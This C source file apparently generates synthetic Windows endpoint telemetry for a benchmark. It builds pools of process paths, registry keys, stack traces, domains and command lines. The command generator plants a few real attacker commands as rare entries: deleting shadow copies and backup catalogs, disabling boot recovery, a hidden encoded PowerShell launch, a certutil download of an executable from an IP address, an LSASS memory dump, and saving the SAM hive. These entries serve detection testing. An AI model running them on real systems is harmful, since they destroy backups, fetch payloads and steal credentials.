/* gen_pools.c - texts that look like those of a fleet, combined from words. */
#include "bench/gen/gen_pools.h"

#include <stdint.h>
#include <stdio.h>

#define PICK(list, random) list[gen_below(random, sizeof list / sizeof list[0])]

static const char *const words[] = {
    "sync",  "update", "agent", "host",  "broker", "helper", "report", "cache", "index", "print",
    "audio", "media",  "store", "shell", "input",  "power",  "setup",  "query", "trace", "graph",
    "crypt", "token",  "audit", "batch", "queue",  "route",  "proxy",  "frame", "paint", "query",
    "clip",  "mail",   "chat",  "note",  "sheet",  "draw",   "meet",   "drive", "vault", "probe"};
static const char *const vendors[] = {"Tidewatch", "Meetly",     "Northpeak", "Bluefin Tools",
                                      "Oakline",   "Ferrum",     "Contura",   "Halyard",
                                      "Paperkite", "Silverbirch"};
static const char *const system_names[] = {"svchost",
                                           "conhost",
                                           "RuntimeBroker",
                                           "taskhostw",
                                           "dllhost",
                                           "WmiPrvSE",
                                           "backgroundTaskHost",
                                           "cmd",
                                           "services",
                                           "lsass",
                                           "rundll32",
                                           "powershell",
                                           "SearchIndexer",
                                           "spoolsv",
                                           "msiexec",
                                           "reg",
                                           "net",
                                           "sc",
                                           "schtasks",
                                           "whoami"};
static const char *const libraries[] = {"ntdll",    "kernel32", "KERNELBASE", "combase", "rpcrt4",
                                        "advapi32", "user32",   "crypt32",    "bcrypt",  "ole32",
                                        "oleaut32", "shlwapi",  "ws2_32",     "wininet", "winhttp",
                                        "sechost",  "msvcrt",   "gdi32",      "version", "amsi"};
static const char *const top[] = {"example", "test", "invalid"};

static size_t print(int len) {
    return len > 0 ? (size_t)len : 0;
}

static size_t make_image(char *out, uint32_t i, gen_prng *r) {
    if (i < 20) {
        return print(sprintf(out, "C:\\Windows\\System32\\%s.exe", system_names[i]));
    }
    const char *a = PICK(words, r), *b = PICK(words, r), *v = PICK(vendors, r);
    return print(i % 3 == 0 ? sprintf(out, "C:\\Windows\\System32\\%s%s.exe", a, b)
                 : i % 3 == 1
                     ? sprintf(out, "C:\\Program Files\\%s\\%s%s\\%s%u.exe", v, a, b, b, i)
                     : sprintf(out, "C:\\Users\\user%u\\AppData\\Local\\%s\\app-%u.%u\\%s.exe",
                               i % 40, a, i % 9, i % 31, b));
}

static size_t make_library(char *out, uint32_t i, gen_prng *r) {
    if (i < 20) {
        return print(sprintf(out, "C:\\Windows\\System32\\%s.dll", libraries[i]));
    }
    const char *a = PICK(words, r), *b = PICK(words, r), *v = PICK(vendors, r);
    return print(i % 4 != 0 ? sprintf(out, "C:\\Windows\\System32\\%s%s%u.dll", a, b, i % 10)
                            : sprintf(out, "C:\\Program Files\\%s\\%s\\%s_%u.dll", v, a, b, i));
}

static size_t make_key(char *out, uint32_t i, gen_prng *r) {
    const char *a = PICK(words, r), *b = PICK(words, r), *c = PICK(words, r), *v = PICK(vendors, r);
    uint32_t x = (uint32_t)gen_next(r), y = (uint32_t)gen_next(r);
    switch (i % 5) {
    case 0:
        return print(sprintf(
            out, "HKLM\\System\\CurrentControlSet\\Services\\%s%s\\Parameters\\%s%u", a, b, c, i));
    case 1:
        return print(sprintf(out, "HKU\\S-1-5-21-1802033341-411170403-%u\\Software\\%s\\%s\\%s",
                             1000 + i % 500, v, a, b));
    case 2:
        return print(sprintf(out,
                             "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\%s\\{%08x-%04x-"
                             "11ef-9a1b-0242ac120002}\\%s",
                             a, x, i & 0xFFFF, b));
    case 3:
        return print(sprintf(out, "HKCR\\CLSID\\{%08x-%04x-4d2e-a3c4-%08x0000}\\InProcServer32", x,
                             i & 0xFFFF, y));
    default:
        return print(sprintf(out, "HKLM\\SOFTWARE\\%s\\%s%s\\State\\%s%u", v, a, b, c, i % 100));
    }
}

static size_t make_file(char *out, uint32_t i, gen_prng *r) {
    const char *a = PICK(words, r), *b = PICK(words, r);
    static const char *const endings[] = {"tmp", "log", "dat", "json",   "dll",
                                          "exe", "ps1", "etl", "db-wal", "xlsx"};
    const char *ending = PICK(endings, r), *v = PICK(vendors, r);
    switch (i % 4) {
    case 0:
        return print(sprintf(out, "C:\\Users\\user%u\\AppData\\Local\\Temp\\%s%06u.%s", i % 200, a,
                             i, ending));
    case 1:
        return print(
            sprintf(out, "C:\\ProgramData\\%s\\%s\\%s-2024%04u.%s", v, a, b, i % 10000, ending));
    case 2:
        return print(
            sprintf(out, "C:\\Windows\\Temp\\%s_%08u.%s", a, i * 7919u % 100000000u, ending));
    default:
        return print(sprintf(out, "C:\\Users\\user%u\\Documents\\%s %s %u.%s", i % 200, a, b,
                             i % 2025, ending));
    }
}

static size_t make_trace(char *out, uint32_t i, gen_prng *r) {
    size_t len = print(sprintf(out, "C:\\Windows\\SYSTEM32\\ntdll.dll+%x", 0x9d4c4 + i % 7));
    uint32_t frames = 6 + gen_below(r, 12);
    for (uint32_t f = 0; f < frames; f++) {
        const char *library = PICK(libraries, r);
        len += print(sprintf(out + len, "|C:\\Windows\\System32\\%s.dll+%x", library,
                             gen_below(r, 0x90000)));
    }
    return len;
}

static size_t make_command(char *out, uint32_t i, gen_prng *r) {
    static const char *const attacks[] = {
        "vssadmin.exe delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "bcdedit /set {default} recoveryenabled No",
        "wbadmin delete catalog -q",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp "
        "full",
        "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv"};
    if (i >= 600 && i < 608) { /* rare, as they should be */
        return print(sprintf(out, "%s", attacks[i - 600]));
    }
    const char *a = PICK(words, r), *b = PICK(words, r), *c = PICK(words, r), *v = PICK(vendors, r);
    uint32_t x = (uint32_t)gen_next(r);
    switch (i % 6) {
    case 0:
        return print(
            sprintf(out, "C:\\Windows\\system32\\svchost.exe -k %s%s -p -s %sSvc", a, b, c));
    case 1:
        return print(sprintf(
            out,
            "\"C:\\Program Files\\%s\\%s.exe\" --type=%s --channel=%u.%u.%u --service-sandbox=%s",
            v, a, b, 1000 + i, i % 97, i * 31, c));
    case 2:
        return print(sprintf(out,
                             "powershell.exe -ExecutionPolicy Bypass -NonInteractive -File "
                             "\"C:\\ProgramData\\%s\\%s-%s.ps1\" -Site %u",
                             v, a, b, i % 50));
    case 3:
        return print(sprintf(out,
                             "C:\\Windows\\System32\\cmd.exe /c \"C:\\ProgramData\\%s\\%s.cmd %u "
                             ">> C:\\Windows\\Temp\\%s.log 2>&1\"",
                             a, b, i, c));
    case 4:
        return print(sprintf(
            out, "C:\\Windows\\system32\\DllHost.exe /Processid:{%08X-09CA-4BB6-B78D-A8F59079A8D5}",
            x));
    default:
        return print(sprintf(out, "\\??\\C:\\Windows\\system32\\conhost.exe 0x%x -ForceV1", i));
    }
}

static size_t make_domain(char *out, uint32_t i, gen_prng *r) {
    const char *a = PICK(words, r), *b = PICK(words, r), *end = PICK(top, r);
    return print(sprintf(out, "%s%u.%s%s.%s", a, i % 12, b, i % 3 == 0 ? "cdn" : "", end));
}

static size_t make_answer(char *out, uint32_t i, gen_prng *r) {
    return i == 0 ? print(sprintf(out, "-"))
                  : print(sprintf(out, "type:  5 %s%u.cdn.example;::ffff:203.0.113.%u;",
                                  PICK(words, r), i, i % 254 + 1));
}

static size_t make_mask(char *out, uint32_t i, gen_prng *r) {
    static const char *const masks[] = {"0x1000", "0x1400",   "0x3000",   "0x1478", "0x1410",
                                        "0x40",   "0x101000", "0x1fffff", "0x1010", "0x100000"};
    (void)r;
    return print(i < 10 ? sprintf(out, "%s", masks[i]) : sprintf(out, "0x%x", 0x1400 + i * 16));
}

static size_t make_details(char *out, uint32_t i, gen_prng *r) {
    const char *a = PICK(words, r), *v = PICK(vendors, r);
    uint32_t x = (uint32_t)gen_next(r);
    return i == 0       ? print(sprintf(out, "Binary Data"))
           : i % 3 == 0 ? print(sprintf(out, "DWORD (0x%08x)", i))
           : i % 3 == 1 ? print(sprintf(out, "QWORD (0x00000000-0x%08x)", x))
                        : print(sprintf(out, "C:\\ProgramData\\%s\\%s%u.exe", v, a, i));
}

static size_t make_user(char *out, uint32_t i, gen_prng *r) {
    (void)r;
    return i == 0   ? print(sprintf(out, "NT AUTHORITY\\SYSTEM"))
           : i == 1 ? print(sprintf(out, "NT AUTHORITY\\NETWORK SERVICE"))
                    : print(sprintf(out, "FLEET\\user%u", i));
}

static size_t make_directory(char *out, uint32_t i, gen_prng *r) {
    return i == 0 ? print(sprintf(out, "C:\\Windows\\system32\\"))
                  : print(sprintf(out, "C:\\Users\\user%u\\%s\\", i, PICK(words, r)));
}

static size_t make_company(char *out, uint32_t i, gen_prng *r) {
    (void)r;
    return i == 0   ? print(sprintf(out, "Microsoft Corporation"))
           : i == 1 ? print(sprintf(out, "-"))
                    : print(sprintf(out, "%s Ltd %u", vendors[i % 10], i / 10));
}

static size_t make_version(char *out, uint32_t i, gen_prng *r) {
    return i == 0 ? print(sprintf(out, "-"))
                  : print(sprintf(out, "10.0.%u.%u (WinBuild.160101.0800)", 17763 + i * 13,
                                  gen_below(r, 4000)));
}

static size_t make_address(char *out, uint32_t i, gen_prng *r) {
    (void)r;
    return print(i % 4 == 0 ? sprintf(out, "10.10.%u.%u", i / 250 % 16, i % 250 + 1)
                            : sprintf(out, "%u.%u.%u.%u", 20 + i * 7 % 180, i * 31 % 256,
                                      i * 17 % 256, i % 256));
}

void gen_pools_init(gen_pools *p, uint64_t seed) {
    gen_pool_init(&p->images, 463, 4, seed + 1, make_image);
    gen_pool_init(&p->libraries, 2226, 4, seed + 2, make_library);
    gen_pool_init(&p->keys, 44000, 3, seed + 3, make_key);
    gen_pool_init(&p->files, 11000, 2, seed + 4, make_file);
    gen_pool_init(&p->traces, 3324, 4, seed + 5, make_trace);
    gen_pool_init(&p->commands, 880, 3, seed + 6, make_command);
    gen_pool_init(&p->domains, 323, 4, seed + 7, make_domain);
    gen_pool_init(&p->answers, 164, 4, seed + 8, make_answer);
    gen_pool_init(&p->masks, 30, 5, seed + 9, make_mask);
    gen_pool_init(&p->details, 8000, 4, seed + 10, make_details);
    gen_pool_init(&p->users, 45, 5, seed + 11, make_user);
    gen_pool_init(&p->directories, 60, 5, seed + 12, make_directory);
    gen_pool_init(&p->companies, 30, 6, seed + 13, make_company);
    gen_pool_init(&p->versions, 120, 4, seed + 14, make_version);
    gen_pool_init(&p->addresses, 20000, 3, seed + 15, make_address);
}

void gen_pools_free(gen_pools *p) {
    gen_pool *all[] = {&p->images,   &p->libraries,   &p->keys,      &p->files,    &p->traces,
                       &p->commands, &p->domains,     &p->answers,   &p->masks,    &p->details,
                       &p->users,    &p->directories, &p->companies, &p->versions, &p->addresses};
    for (size_t i = 0; i < sizeof all / sizeof all[0]; i++) {
        gen_pool_free(all[i]);
    }
}
